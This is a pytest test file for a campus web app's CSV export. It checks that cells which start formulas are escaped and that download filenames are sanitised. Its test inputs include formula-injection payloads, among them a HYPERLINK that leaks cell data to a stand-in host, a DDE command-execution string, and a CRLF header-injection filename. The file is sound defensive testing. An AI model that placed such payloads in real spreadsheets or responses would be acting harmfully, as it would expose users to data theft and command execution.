import csv
import io

import pytest

from campus.spreadsheets import csv_cell, csv_response, csv_text


@pytest.mark.parametrize(
    "attack",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\n@x",
    ],
)
def test_a_cell_that_starts_a_formula_is_written_as_text(attack: str) -> None:
    assert csv_cell(attack) == "'" + attack
    [[read]] = list(csv.reader(io.StringIO(csv_text([[attack]]))))
    assert read == "'" + attack


@pytest.mark.parametrize("value", ["0", "12.5", "-3", "-0.25", "Ada Lovelace", "a=b", ""])
def test_plain_numbers_and_text_are_written_as_they_are(value: str) -> None:
    assert csv_cell(value) == value


def test_the_response_is_a_csv_download_with_a_header_safe_name() -> None:
    response = csv_response(rows=[["=1", 2]], filename='grades"\r\nX: y.csv')
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="grades___X__y.csv"'
    assert response.content == b"'=1,2\r\n"
